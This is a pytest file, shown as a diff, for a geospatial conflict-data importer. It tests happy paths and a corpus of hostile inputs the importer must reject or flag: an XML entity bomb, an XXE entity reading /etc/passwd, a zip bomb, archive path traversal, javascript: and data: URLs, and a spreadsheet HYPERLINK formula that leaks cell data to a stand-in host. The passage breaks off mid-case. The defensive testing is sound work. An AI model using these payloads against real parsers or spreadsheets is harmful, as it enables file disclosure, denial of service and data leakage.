@@ -1,0 +1,1060 @@
+"""Importing an analyst's own theatre: happy paths per format, and a corpus of malformed and hostile inputs.
+
+Every corpus case asserts the exact outcome (the file, the feature or row, and the message of the error, or the
+flagged repair), that nothing but DatasetError escapes, and that a previously imported theatre is byte-for-byte
+unchanged afterwards.
+"""
+
+from __future__ import annotations
+
+import base64
+import datetime as dt
+import io
+import json
+import random
+import re
+import subprocess
+import sys
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import geopandas as gpd
+import pytest
+import shapely
+from pyproj import Geod, Transformer
+from shapely.geometry import box
+
+from layers import upload as upload_module
+from layers.core import DatasetError, Problem, Territory, imports, load_dataset
+from layers.core import geocheck as gc
+from layers.core.import_config import InputFile, read_config
+from layers.upload import display_name, handle_upload, theatre_folder
+from tests.conftest import ROOT
+
+AOI = (38.9, 35.9, 39.1, 36.0)
+CONFIG = """
+name = "Test theatre"
+start = 2017-01-01
+end = "2017-12-31"
+source_url = "https://example.org/source"
+
+[aoi]
+bbox = [38.9, 35.9, 39.1, 36.0]
+
+[[factions]]
+id = "SDF"
+label = "Syrian Democratic Forces"
+color = "#e8b70e"
+
+[[factions]]
+id = "ISIS"
+label = "Islamic State"
+color = "#3a3a3a"
+
+[faction_map]
+"Daesh" = "ISIS"
+"""
+ACLED_HEADER = (
+    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,assoc_actor_1,"
+    "actor2,location,latitude,longitude,geo_precision,source,source_scale,notes,fatalities"
+)
+UCDP_HEADER = (
+    "id,relid,year,type_of_violence,conflict_name,side_a,side_b,source_article,source_headline,where_prec,"
+    "where_coordinates,where_description,latitude,longitude,date_prec,date_start,date_end,best"
+)
+GEOD = Geod(ellps="WGS84")
+
+
+# ---------------------------------------------------------------------------------------------------------
+# builders
+
+
+def poly(coordinates) -> dict:
+    return {"type": "Polygon", "coordinates": coordinates}
+
+
+def sq(w, s, e, n) -> dict:
+    return {"type": "Polygon", "coordinates": [[[w, s], [e, s], [e, n], [w, n], [w, s]]]}
+
+
+def feat(geometry, faction="SDF", **props) -> dict:
+    return {"type": "Feature", "properties": {"faction": faction, **props}, "geometry": geometry}
+
+
+def fc(*features, **extra) -> dict:
+    return {"type": "FeatureCollection", "features": list(features), **extra}
+
+
+def gj(name: str, *features, **extra) -> InputFile:
+    return InputFile(name, json.dumps(fc(*features, **extra)).encode())
+
+
+def raw(name: str, text: str | bytes) -> InputFile:
+    return InputFile(name, text.encode() if isinstance(text, str) else text)
+
+
+EAST_BOX = (39.0, 35.9, 39.1, 36.0)
+WEST, EAST = sq(38.9, 35.9, 39.0, 36.0), sq(*EAST_BOX)
+GOOD_SNAPSHOT = gj("2017-02-01.geojson", feat(WEST, "SDF"), feat(EAST, "Daesh"))
+
+
+def acled(*rows: str) -> InputFile:
+    return raw("acled.csv", "\n".join([ACLED_HEADER, *rows]) + "\n")
+
+
+def acled_row(eid="SYR1", date="2017-02-03", lat="35.95", lon="38.95", notes="Clashes near the dam", **kw) -> str:
+    values = {
+        "event_type": "Battles",
+        "sub_event_type": "Armed clash",
+        "actor1": "SDF",
+        "actor2": "ISIS",
+        "location": "Tabqa",
+        "geo_precision": "1",
+        "time_precision": "1",
+        "source": "SOHR",
+    }
+    values.update(kw)
+    cells = [
+        eid, date, "2017", values["time_precision"], "Political violence", values["event_type"],
+        values["sub_event_type"], values["actor1"], "", values["actor2"], values["location"], lat, lon,
+        values["geo_precision"], values["source"], "National", notes, "0",
+    ]  # fmt: skip
+    return ",".join(_cell(c) for c in cells)
+
+
+def ucdp(*rows: str) -> InputFile:
+    return raw("ged.csv", "\n".join([UCDP_HEADER, *rows]) + "\n")
+
+
+def ucdp_row(rid="123", start="2017-03-05", end="2017-03-06", lat="35.95", lon="39.05", article="AFP") -> str:
+    cells = [
+        rid, "SYR-1", "2017", "1", "Syria: Government", "SDF", "IS", article, "Fighting in Raqqa", "1",
+        "Raqqa town", "near the stadium", lat, lon, "1", start, end, "4",
+    ]  # fmt: skip
+    return ",".join(_cell(c) for c in cells)
+
+
+def _cell(value: str) -> str:
+    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value
+
+
+def config_file(text: str = CONFIG) -> InputFile:
+    return raw("theatre.toml", text)
+
+
+def kml(*placemarks: str, head: str = "") -> str:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
+        + "".join(placemarks)
+        + "</Document></kml>"
+    )
+
+
+def placemark(name: str, faction: str, ring, when: str = "<TimeStamp><when>2017-02-01</when></TimeStamp>") -> str:
+    coords = " ".join(f"{x},{y},0" for x, y in ring)
+    return (
+        f'<Placemark><name>{name}</name>{when}<ExtendedData><Data name="faction"><value>{faction}</value></Data>'
+        f"</ExtendedData><Polygon><outerBoundaryIs><LinearRing><coordinates>{coords}</coordinates></LinearRing>"
+        "</outerBoundaryIs></Polygon></Placemark>"
+    )
+
+
+def ring(w, s, e, n):
+    return [(w, s), (e, s), (e, n), (w, n), (w, s)]
+
+
+def kmz(entries: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in entries.items():
+            z.writestr(name, data)
+    return buf.getvalue()
+
+
+def gpkg(tmp_path: Path, rows: list[dict], crs="EPSG:4326", layer="snapshots") -> InputFile:
+    geoms = [r.pop("geometry") for r in rows]
+    frame = gpd.GeoDataFrame(rows, geometry=geoms, crs=crs)
+    path = tmp_path / f"{layer}.gpkg"
+    frame.to_file(path, driver="GPKG", layer=layer)
+    return InputFile(path.name, path.read_bytes())
+
+
+def tree(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def km2(w, s, e, n) -> float:
+    return abs(GEOD.geometry_area_perimeter(box(w, s, e, n))[0]) / 1e6
+
+
+@pytest.fixture
+def existing(tmp_path) -> tuple[Path, dict[str, bytes]]:
+    """A theatre imported before the case runs, and its bytes."""
+    out = tmp_path / "instance" / "theatres" / "existing"
+    imports.save(imports.prepare(config_file(), [GOOD_SNAPSHOT, acled(acled_row())]), out)
+    return out, tree(out)
+
+
+# ---------------------------------------------------------------------------------------------------------
+# happy paths
+
+
+def test_three_geojson_snapshots_become_dated_overrides(tmp_path):
+    snaps = [
+        GOOD_SNAPSHOT,
+        gj("2017-03-01.geojson", feat(sq(38.9, 35.9, 39.05, 36.0), "SDF"), feat(sq(39.05, 35.9, 39.1, 36.0), "ISIS")),
+        gj("2017-04-01.geojson", feat(sq(38.9, 35.9, 39.1, 36.0), "Syrian Democratic Forces")),
+    ]
+    folder = tmp_path / "snapshots"
+    folder.mkdir()
+    for f in reversed(snaps):  # the order files come in does not matter
+        (folder / f.name).write_bytes(f.data)
+    imported = imports.prepare(config_file(), imports.read_paths([folder]))
+    assert imported.warnings == []
+    assert imported.counts == {"snapshot polygons": 5, "snapshot dates": 3, "events": 0, "places": 5}
+    imports.save(imported, tmp_path / "t")
+    ds = load_dataset(tmp_path / "t")
+    spans = sorted((o.holder, o.valid_from.isoformat(), o.valid_to.isoformat()) for o in ds.overrides)
+    assert spans == [
+        ("ISIS", "2017-02-01", "2017-02-28"),
+        ("ISIS", "2017-03-01", "2017-03-31"),
+        ("SDF", "2017-02-01", "2017-02-28"),
+        ("SDF", "2017-03-01", "2017-03-31"),
+        ("SDF", "2017-04-01", "2017-12-31"),
+    ]
+    terr = Territory(ds)
+    whole = km2(*AOI)
+    assert set(terr.control_at(dt.date(2017, 1, 31)).polygons) == {"no reporting"}
+    expected = {
+        dt.date(2017, 2, 1): {"SDF": km2(38.9, 35.9, 39.0, 36.0), "ISIS": km2(39.0, 35.9, 39.1, 36.0)},
+        dt.date(2017, 2, 28): {"SDF": km2(38.9, 35.9, 39.0, 36.0), "ISIS": km2(39.0, 35.9, 39.1, 36.0)},
+        dt.date(2017, 3, 15): {"SDF": km2(38.9, 35.9, 39.05, 36.0), "ISIS": km2(39.05, 35.9, 39.1, 36.0)},
+        dt.date(2017, 12, 31): {"SDF": whole, "ISIS": 0.0},
+    }
+    for date, areas in expected.items():
+        snap = terr.control_at(date)
+        for holder, area in areas.items():
+            assert snap.area_km2(holder) == pytest.approx(area, rel=2e-3, abs=1e-3), (date, holder)
+        assert snap.area_km2("no reporting") < 1e-3, date
+
+
+def test_gpkg_snapshots_in_a_projected_crs_are_reprojected(tmp_path):
+    to_utm = Transformer.from_crs("EPSG:4326", "EPSG:32637", always_xy=True)
+    west = shapely.transform(box(38.9, 35.9, 39.0, 36.0), lambda xy: _fwd(to_utm, xy), include_z=False)
+    east = shapely.transform(box(39.0, 35.9, 39.1, 36.0), lambda xy: _fwd(to_utm, xy), include_z=False)
+    rows = [
+        {"date": "2017-05-01", "faction": "SDF", "geometry": west},
+        {"date": "2017-05-01", "faction": "Daesh", "geometry": east},
+    ]
+    imported = imports.prepare(config_file(), [gpkg(tmp_path, rows, crs="EPSG:32637")])
+    assert imported.warnings == [
+        Problem("snapshots.gpkg", "layer snapshots", "CRS EPSG:32637: reprojected to lon/lat WGS84 (EPSG:4326)")
+    ]
+    imports.save(imported, tmp_path / "t")
+    snap = Territory(load_dataset(tmp_path / "t")).control_at(dt.date(2017, 6, 1))
+    assert snap.area_km2("SDF") == pytest.approx(km2(38.9, 35.9, 39.0, 36.0), rel=2e-3)
+    assert snap.area_km2("ISIS") == pytest.approx(km2(39.0, 35.9, 39.1, 36.0), rel=2e-3)
+
+
+def _fwd(transformer, xy):
+    import numpy as np
+
+    return np.column_stack(transformer.transform(xy[:, 0], xy[:, 1]))
+
+
+def test_kml_and_kmz_snapshots_import(tmp_path):
+    doc = kml(
+        placemark("West &lt;b&gt;bank&lt;/b&gt;", "SDF", ring(38.9, 35.9, 39.0, 36.0)),
+        placemark("East", "Daesh", ring(39.0, 35.9, 39.1, 36.0)),
+    )
+    later = kml(placemark("All", "SDF", ring(38.9, 35.9, 39.1, 36.0), "<TimeStamp><when>2017-07-01</when></TimeStamp>"))
+    inputs = [raw("june.kml", doc), InputFile("july.kmz", kmz({"doc.kml": later.encode()}))]
+    imported = imports.prepare(config_file(), inputs)
+    assert imported.warnings == []  # KML's altitude 0 is dropped without a warning
+    imports.save(imported, tmp_path / "t")
+    ds = load_dataset(tmp_path / "t")
+    assert "West <b>bank</b>" in {p.name for p in ds.places.values()}  # stored as text, as typed
+    terr = Territory(ds)
+    assert terr.control_at(dt.date(2017, 6, 30)).area_km2("ISIS") == pytest.approx(km2(39.0, 35.9, 39.1, 36.0), 2e-3)
+    assert terr.control_at(dt.date(2017, 7, 1)).area_km2("SDF") == pytest.approx(km2(*AOI), rel=2e-3)
+
+
+def test_kml_needs_gdal_with_libkml(monkeypatch):
+    import pyogrio
+
+    assert "LIBKML" in pyogrio.list_drivers()  # the pinned wheel reads KML's ExtendedData with LIBKML
+    monkeypatch.setattr(pyogrio, "list_drivers", lambda: {"KML": "rw"})
+    with pytest.raises(DatasetError) as err:
+        imports.prepare(config_file(), [raw("a.kml", kml(placemark("A", "SDF", ring(38.9, 35.9, 39.0, 36.0))))])
+    assert err.value.problems == [Problem("a.kml", "file", "cannot read KML here: GDAL has no LIBKML driver")]
+
+
+def test_acled_table_becomes_events_and_places(tmp_path):
+    table = acled(
+        acled_row("SYR1", notes="<script>alert(1)</script>"),
+        acled_row("SYR2", date="06 June 2017", lat="35.97", lon="39.01", location="Raqqa", geo_precision="3",
+                  time_precision="2", source="Reuters https://example.com/raqqa"),
+        acled_row("SYR3", lat="35.96", lon="39.02", location="الرقة"),
+    )  # fmt: skip
+    imports.save(imports.prepare(config_file(), [table]), tmp_path / "t")
+    ds = load_dataset(tmp_path / "t")
+    e1, e2 = (e for e in ds.events if e.event_id != "SYR3")
+    assert (e1.event_id, e1.date, e1.title, e1.confidence) == (
+        "SYR1",
+        dt.date(2017, 2, 3),
+        "Armed clash at Tabqa",
+        "high",
+    )
+    assert e1.detail == "SDF v ISIS. <script>alert(1)</script> Source: SOHR."
+    assert e1.source_urls == ("https://example.org/source",)
+    assert (e2.date, e2.date_precision, e2.confidence) == (dt.date(2017, 6, 6), "approx", "medium")
+    assert e2.source_urls == ("https://example.com/raqqa",)
+    tabqa, raqqa = ds.places["loc-tabqa"], ds.places["loc-raqqa"]
+    assert ds.places["loc-35.9600n-39.0200e"].name == "الرقة"  # no Latin letters: the id comes from the point
+    assert (tabqa.kind, tabqa.confidence, tabqa.lon, tabqa.lat) == ("event location", "high", 38.95, 35.95)
+    assert raqqa.confidence == "low"  # ACLED geo_precision 3
+    assert set(Territory(ds).control_at(dt.date(2017, 6, 6)).polygons) == {"no reporting"}
+
+
+def test_ucdp_table_becomes_events(tmp_path):
+    table = ucdp(ucdp_row(article="AFP 2017-03-05 https://example.com/a"), ucdp_row("124", "2017-04-01", "2017-04-01"))
+    imports.save(imports.prepare(config_file(), [table]), tmp_path / "t")
+    ds = load_dataset(tmp_path / "t")
+    ranged, day = ds.events
+    assert (ranged.event_id, ranged.date_precision, ranged.source_urls) == (
+        "GED-123",
+        "range",
+        ("https://example.com/a",),
+    )
+    assert ranged.title == "SDF v IS at Raqqa town"
+    assert "Deaths (best estimate): 4." in ranged.detail
+    assert (day.event_id, day.date_precision) == ("GED-124", "day")
+    assert set(Territory(ds).control_at(dt.date(2017, 3, 5)).polygons) == {"no reporting"}  # events hold no ground
+    assert ds.places[ranged.place_id].name == "Raqqa town"
+    assert ranged.place_id == day.place_id  # one place for one location
+
+
+def test_config_names_the_crs_of_files_without_one(tmp_path):
+    metres = gj(SNAP, feat(poly([UTM_WEST + UTM_WEST[:1]])))
+    imported = imports.prepare(config_file(CONFIG + '\n[inputs]\ncrs = "EPSG:32637"\n'), [metres])
+    assert imported.warnings == []
+    imports.save(imported, tmp_path / "t")
+    (override,) = load_dataset(tmp_path / "t").overrides
+    w, s, e, n = override.geometry.bounds
+    assert (round(w, 2), round(s, 2), round(e, 2), round(n, 2)) == (39.0, 35.92, 39.1, 36.02)
+
+
+def test_json_config_and_polygon_aoi(tmp_path):
+    cfg = {
+        "name": "JSON theatre",
+        "slug": "json-theatre",
+        "start": "2017-01-01",
+        "end": "2017-12-31",
+        "source_url": "https://example.org/",
+        "aoi": {"polygon": [[38.9, 35.9], [39.1, 35.9], [39.1, 36.0], [38.9, 36.0]]},
+        "factions": [{"id": "SDF", "label": "SDF", "colour": "#E8B70E"}, {"id": "ISIS", "color": "#3a3a3a"}],
+        "faction_map": {"Daesh": "ISIS"},
+    }
+    imported = imports.prepare(raw("theatre.json", json.dumps(cfg)), [GOOD_SNAPSHOT])
+    assert imported.config.slug == "json-theatre"
+    assert imported.config.factions[0] == {"id": "SDF", "label": "SDF", "color": "#e8b70e"}
+    imports.save(imported, tmp_path / "t")
+    assert load_dataset(tmp_path / "t").theatre["max_cell_radius_km"] == 0
+
+
+# ---------------------------------------------------------------------------------------------------------
+# the corpus of malformed and hostile inputs
+
+
+@dataclass
+class Case:
+    """One bad input: what goes in, and the one finding it must give (kind, file, item, message)."""
+
+    id: str
+    inputs: object  # list[InputFile] or a function of tmp_path returning one
+    kind: str  # "error" or "warning"
+    file: str
+    item: str
+    message: str  # exact, or a regular expression when it starts with "re:"
+    config: str = CONFIG
+    patch: dict = field(default_factory=dict)
+
+
+def _nan_file(literal: str) -> InputFile:
+    text = json.dumps(fc(feat(WEST))).replace("38.9", literal, 1)
+    return raw("2017-02-01.geojson", text)
+
+
+def _bomb_kml() -> str:
+    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
+        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
+    )
+    return kml(placemark("&i;", "SDF", ring(38.9, 35.9, 39.0, 36.0)), head=f"<!DOCTYPE kml [{entities}]>")
+
+
+def _zip_bomb() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        with z.open("doc.kml", "w") as fh:
+            chunk = b" " * 2**20
+            for _ in range(21):
+                fh.write(chunk)
+    return buf.getvalue()
+
+
+CW = {"type": "Polygon", "coordinates": [[[38.9, 35.9], [38.9, 36.0], [39.0, 36.0], [39.0, 35.9], [38.9, 35.9]]]}
+UTM_WEST = [[500000.0, 3975000.0], [509000.0, 3975000.0], [509000.0, 3986000.0], [500000.0, 3986000.0]]
+LOOP = [(38.9, 35.9), (39.0, 35.9), (39.0, 36.0), (38.9, 36.0), (38.905, 36.005), (38.905, 35.995), (38.9, 35.9)]
+BOWTIE = [[38.9, 35.9], [39.0, 36.0], [39.0, 35.9], [38.9, 36.0], [38.9, 35.9]]
+HOLE_OUT = {
+    "type": "Polygon",
+    "coordinates": [
+        sq(38.9, 35.9, 39.0, 36.0)["coordinates"][0],
+        [[39.05, 35.92], [39.06, 35.92], [39.06, 35.93], [39.05, 35.92]],
+    ],
+}  # fmt: skip
+F0 = "feature 0"
+SNAP = "2017-02-01.geojson"
+L2 = "line 2 (SYR1)"
+
+CORPUS = [
+    # --- strict JSON
+    Case("nan-literal", [_nan_file("NaN")], "error", SNAP, "file",
+         "not valid JSON: NaN is not allowed in JSON (numbers must be finite)"),
+    Case("infinity-literal", [_nan_file("-Infinity")], "error", SNAP, "file",
+         "not valid JSON: -Infinity is not allowed in JSON (numbers must be finite)"),
+    Case("overflowing-number", [_nan_file("1e400")], "error", SNAP, "file",
+         "not valid JSON: number 1e400 is not finite"),
+    Case("deeply-nested-json", [raw(SNAP, "[" * 100_000 + "]" * 100_000)], "error", SNAP, "file",
+         "JSON nested deeper than 64 levels"),
+    Case("duplicate-json-key", [raw(SNAP, '{"type": "FeatureCollection", "type": "Feature", "features": []}')],
+         "error", SNAP, "file", "not valid JSON: duplicate key 'type' in one object"),
+    Case("non-utf8-bytes", [raw(SNAP, json.dumps(fc(feat(WEST, name="X"))).encode().replace(b'"X"', b'"\xe9"'))],
+         "error", SNAP, "file", "re:not UTF-8 text: byte 0xe9 at position \\d+"),
+    Case("not-a-collection", [raw(SNAP, "[1, 2, 3]")], "error", SNAP, "file", "must be a GeoJSON FeatureCollection"),
+    Case("png-renamed-geojson", [raw(SNAP, b"\x89PNG\r\n\x1a\n" + bytes(64))], "error", SNAP, "file",
+         "content is a PNG image, not JSON as its extension says"),
+    Case("unsupported-type", [raw("map.shp", b"\x00\x00\x27\x0a")], "error", "map.shp", "file",
+         "unsupported file type '.shp': expected .geojson, .gpkg, .kml, .kmz or .csv"),
+    Case("huge-file", [raw(SNAP, b"{" + b" " * (20 * 2**20))], "error", SNAP, "file", "larger than 20 MiB"),
+    Case("too-many-features", [gj(SNAP, *[feat(WEST)] * 4)], "error", SNAP, "file",
+         "4 features: more than the limit of 3", patch={"MAX_FEATURES": 3}),
+    Case("too-many-vertices", [gj(SNAP, feat(WEST))], "error", SNAP, "file",
+         "5 positions: more than the limit of 4; simplify first", patch={"MAX_VERTICES": 4}),
+    # --- CRS
+    Case("legacy-crs-unknown", [gj(SNAP, feat(WEST), crs={"type": "name", "properties": {"name": "EPSG:999999"}})],
+         "error", SNAP, "crs", "unknown CRS 'EPSG:999999': reproject to lon/lat WGS84 (EPSG:4326) before importing"),
+    Case("legacy-crs-utm", [gj(SNAP, feat({"type": "Polygon", "coordinates": [UTM_WEST + UTM_WEST[:1]]}),
+                               crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::32637"}})],
+         "warning", SNAP, "crs",
+         "legacy 'crs' member urn:ogc:def:crs:EPSG::32637: reprojected to lon/lat WGS84 (EPSG:4326)"),
+    Case("projected-metres-no-crs", [gj(SNAP, feat({"type": "Polygon", "coordinates": [UTM_WEST + UTM_WEST[:1]]}))],
+         "error", SNAP, F0, "coordinates (500000, 3.975e+06) are not lon/lat degrees (projected metres?) and no "
+         "CRS says what they are: reproject to EPSG:4326, or name the CRS (GeoJSON 'crs' member or inputs.crs in "
+         "the config)"),
+    # --- coordinates and place
+    Case("swapped-lat-lon", [gj(SNAP, feat(sq(35.9, 38.9, 36.0, 39.0)))], "error", SNAP, F0,
+         "polygon lies outside the area of interest but inside it with longitude and latitude swapped"),
+    Case("outside-area", [gj(SNAP, feat(sq(10.0, 10.0, 10.1, 10.1)))], "error", SNAP, F0,
+         "polygon lies outside the area of interest"),
+    Case("string-coordinates", [gj(SNAP, feat(poly([[["38.9", "35.9"], [39, 35.9], [39, 36], [38.9, 35.9]]])))],
+         "error", SNAP, F0, "coordinates must be JSON numbers, not strings or booleans"),
+    Case("boolean-coordinates", [gj(SNAP, feat(poly([[[True, False], [39, 35.9], [39, 36], [38.9, 35.9]]])))],
+         "error", SNAP, F0, "coordinates must be JSON numbers, not strings or booleans"),
+    Case("four-number-position", [gj(SNAP, feat(poly([[[38.9, 35.9, 0, 7], [39, 35.9], [39, 36], [38.9, 35.9]]])))],
+         "error", SNAP, F0, "each position must be an array of 2 numbers (lon, lat) or 3 (lon, lat, height)"),
+    Case("3d-coordinates", [gj(SNAP, feat(poly([[[*p, 250.0] for p in WEST["coordinates"][0]]])))],
+         "warning", SNAP, F0, "3D coordinates: Z values dropped"),
+    Case("antimeridian-ring", [gj(SNAP, feat(poly([[[170, 10], [-170, 10], [-170, 20], [170, 20], [170, 10]]])))],
+         "error", SNAP, F0, "polygon lies outside the area of interest"),
+    Case("latitude-beyond-90", [gj(SNAP, feat(sq(35.9, 120.0, 36.0, 120.1)))], "error", SNAP, F0,
+         "coordinates (35.9, 120) are outside lon ±180 / lat ±90: longitude and latitude swapped? GeoJSON is "
+         "[longitude, latitude]"),
+    Case("longitude-beyond-180", [gj(SNAP, feat(sq(200.0, 10.0, 200.1, 10.1)))], "error", SNAP, F0,
+         "coordinates (200, 10) are outside lon ±180 / lat ±90"),
+    Case("topojson", [raw("2017-02-01.json", json.dumps({"type": "Topology", "objects": {}, "arcs": []}))], "error",
+         "2017-02-01.json", "file", "must be a GeoJSON FeatureCollection"),
+    # --- geometry
+    Case("unclosed-ring", [gj(SNAP, feat({"type": "Polygon", "coordinates": [WEST["coordinates"][0][:-1]]}))],
+         "warning", SNAP, F0, "ring was not closed (first position != last): closed it"),
+    Case("three-position-ring", [gj(SNAP, feat(poly([[[38.9, 35.9], [39.0, 35.9], [38.9, 35.9]]])))],
+         "error", SNAP, F0, "ring has fewer than 4 positions"),
+    Case("empty-geometry", [gj(SNAP, feat(poly([])))], "error", SNAP, F0, "geometry is empty"),
+    Case("null-geometry", [gj(SNAP, feat(None))], "error", SNAP, F0, "has no geometry (null)"),
+    Case("point-not-polygon", [gj(SNAP, feat({"type": "Point", "coordinates": [38.95, 35.95]}))], "error", SNAP, F0,
+         "must be a Polygon or MultiPolygon, not Point"),
+    Case("geometry-collection", [gj(SNAP, feat({"type": "GeometryCollection", "geometries": [WEST]}))], "error", SNAP,
+         F0, "must be a Polygon or MultiPolygon, not GeometryCollection"),
+    Case("feature-without-type", [raw(SNAP, json.dumps(fc({"properties": {"faction": "SDF"}, "geometry": WEST})))],
+         "error", SNAP, F0, 'is not a GeoJSON Feature (needs "type": "Feature")'),
+    Case("bowtie-rejected", [gj(SNAP, feat({"type": "Polygon", "coordinates": [BOWTIE]}))], "error", SNAP, F0,
+         "invalid polygon (Self-intersection[38.95 35.95]); repairing it would change its area by all of it: "
+         "fix it by hand and review"),
+    Case("hole-outside-shell", [gj(SNAP, feat(HOLE_OUT))], "error", SNAP, F0,
+         "invalid polygon (Hole lies outside shell[39.05 35.92]); repairing it would change its area by 1.0%: "
+         "fix it by hand and review"),
+    Case("small-loop-repaired", [gj(SNAP, feat({"type": "Polygon", "coordinates": [[list(p) for p in LOOP]]}))],
+         "warning", SNAP, F0,
+         "invalid polygon (Self-intersection[38.905 36]) repaired with make_valid; area changed by 0.26%"),
+    Case("zero-area-spike", [gj(SNAP, feat(poly([[[38.9, 35.9], [39.0, 35.9], [39.05, 35.9], [38.9, 35.9]]])))],
+         "error", SNAP, F0, "invalid polygon (Self-intersection[39 35.9]); repairing it would change its area by all "
+         "of it: fix it by hand and review"),
+    Case("duplicate-feature", [gj(SNAP, feat(WEST), feat(WEST))], "error", SNAP, "feature 1",
+         "duplicate of 2017-02-01.geojson feature 0 (same date, faction and polygon)"),
+    Case("overlapping-factions", [gj(SNAP, feat(WEST, "SDF"), feat(sq(38.99, 35.9, 39.1, 36.0), "ISIS"))], "error",
+         SNAP, "feature 1", "re:ISIS overlaps SDF \\(2017-02-01.geojson feature 0\\) on 2017-02-01 by "
+         "10\\.0\\d\\d km²: two factions cannot hold the same ground"),
+    # --- factions, dates, text
+    Case("unknown-faction", [gj(SNAP, feat(WEST, "Martians"))], "error", SNAP, F0,
+         "unknown faction 'Martians': not a faction id (SDF, ISIS) or in faction_map"),
+    Case("no-faction", [gj(SNAP, {"type": "Feature", "properties": {}, "geometry": WEST})], "error", SNAP, F0,
+         "has no 'faction' property naming its faction"),
+    Case("unparsable-date", [gj("snap.geojson", feat(WEST, date="06/02/2017"))], "error", "snap.geojson", F0,
+         "date '06/02/2017' is not an ISO date (YYYY-MM-DD)"),
+    Case("date-disagrees-with-name", [gj(SNAP, feat(WEST, date="2017-02-02"))], "error", SNAP, F0,
+         "date 2017-02-02 disagrees with the date 2017-02-01 in the file name"),
+    Case("no-date", [gj("snap.geojson", feat(WEST))], "error", "snap.geojson", F0,
+         "has no date: name the file YYYY-MM-DD.geojson or give a 'date' property"),
+    Case("impossible-date-in-name", [gj("2017-02-30.geojson", feat(WEST))], "error", "2017-02-30.geojson", "file",
+         "date '2017-02-30' in the file name is not a real date"),
+    Case("snapshot-after-theatre", [gj("2018-02-01.geojson", feat(WEST))], "error", "2018-02-01.geojson", F0,
+         "date 2018-02-01 is outside the theatre 2017-01-01 .. 2017-12-31"),
+    Case("javascript-url-in-snapshot", [gj(SNAP, feat(WEST, source_url="javascript:alert(1)"))], "error", SNAP, F0,
+         "source_url 'javascript:alert(1)' is not an http(s) URL"),
+    # --- KML / KMZ
+    Case("kml-xml-bomb", [raw("bomb.kml", _bomb_kml())], "error", "bomb.kml", "file",
+         "re:XML with a DTD, entities or external references is not accepted \\(DTDForbidden.*"),
+    Case("kml-external-entity", [raw("xxe.kml", kml(placemark("&x;", "SDF", ring(38.9, 35.9, 39.0, 36.0)),
+                                                     head='<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))],
+         "error", "xxe.kml", "file", "re:XML with a DTD, entities or external references is not accepted \\(.*"),
+    Case("kml-network-link", [raw("net.kml", kml("<NetworkLink><Link><href>http://example.org/a.kml</href></Link></NetworkLink>"))],
+         "error", "net.kml", "file", "NetworkLink elements are not followed: put the features in the file itself"),
+    Case("kml-not-well-formed", [raw("broken.kml", "<kml><Document>")], "error", "broken.kml", "file",
+         "re:not well-formed XML: .*"),
+    Case("kml-timespan-backwards", [raw("span.kml", kml(placemark("A", "SDF", ring(38.9, 35.9, 39.0, 36.0),
+                                                          "<TimeSpan><begin>2017-05-01</begin><end>2017-04-01</end></TimeSpan>")))],
+         "error", "span.kml", "placemark 0 (A) in doc",
+         "TimeSpan runs backwards: begin 2017-05-01 is after end 2017-04-01"),
+    Case("kmz-path-traversal", [InputFile("evil.kmz", kmz({"doc.kml": kml().encode(), "../../evil.kml": b"<kml/>"}))],
+         "error", "evil.kmz", "entry '../../evil.kml'", "path leaves the archive (path traversal): rejected"),
+    Case("kmz-zip-bomb", [InputFile("bomb.kmz", _zip_bomb())], "error", "bomb.kmz", "entry 'doc.kml'",
+         "expands beyond 20 MiB (zip bomb?): rejected"),
+    Case("kmz-not-a-zip", [raw("fake.kmz", "<kml/>")], "error", "fake.kmz", "file",
+         "content is something else, not KMZ (zip) as its extension says"),
+    # --- GeoPackage
+    Case("gpkg-garbage", [raw("x.gpkg", b"SQLite format 3\x00" + bytes(100))], "error", "x.gpkg", "file",
+         "re:cannot be read as a GeoPackage: .*"),
+    Case("gpkg-unknown-faction", lambda tmp: [gpkg(tmp, [{"date": "2017-02-01", "faction": "Martians",
+                                                          "geometry": box(38.9, 35.9, 39.0, 36.0)}])],
+         "error", "snapshots.gpkg", "layer snapshots feature 0",
+         "unknown faction 'Martians': not a faction id (SDF, ISIS) or in faction_map"),
+    Case("gpkg-too-many-vertices", lambda tmp: [gpkg(tmp, [{"date": "2017-02-01", "faction": "SDF",
+                                                            "geometry": box(38.9, 35.9, 39.0, 36.0)}])],
+         "error", "snapshots.gpkg", "file", "5 positions: more than the limit of 4; simplify first",
+         patch={"MAX_VERTICES": 4}),
+    # --- event tables
+    Case("javascript-url-in-source", [acled(acled_row(source="javascript:alert(document.cookie)"))], "error",
+         "acled.csv", L2, "source 'javascript:alert(document.cookie)' is not an http(s) URL"),
+    Case("data-url-in-ucdp-source", [ucdp(ucdp_row(article="see data:text/html,<script>x</script>"))], "error",
+         "ged.csv", "line 2 (123)", "source_article 'data:text/html,<script>x</script>' is not an http(s) URL"),
+    Case("credentials-in-link", [acled(acled_row(source="Wire http://user:secret@example.org/a"))], "error",
+         "acled.csv", L2, "source: a link with a user name or password is not accepted "
+         "('http://user:secret@example.org/a')"),
+    Case("latitude-95", [acled(acled_row(lat="95"))], "error", "acled.csv", L2,
+         "longitude 38.95 / latitude 95 are outside ±180 / ±90"),
+    Case("formula-injection", [acled(acled_row(notes='=HYPERLINK("http://x/?"&A1,"click")'))], "warning",
+         "acled.csv", L2, "notes starts with '=': stored as text; a spreadsheet opening it may run a formula"),
+    Case("bidi-override", [acled(acled_row(notes="safe \u202etxt.exe"))], "warning", "acled.csv", L2,
+         "notes: removed bidirectional override characters"),
+    Case("impossible-event-date", [acled(acled_row(date="2017-02-30"))], "error", "acled.csv", L2,
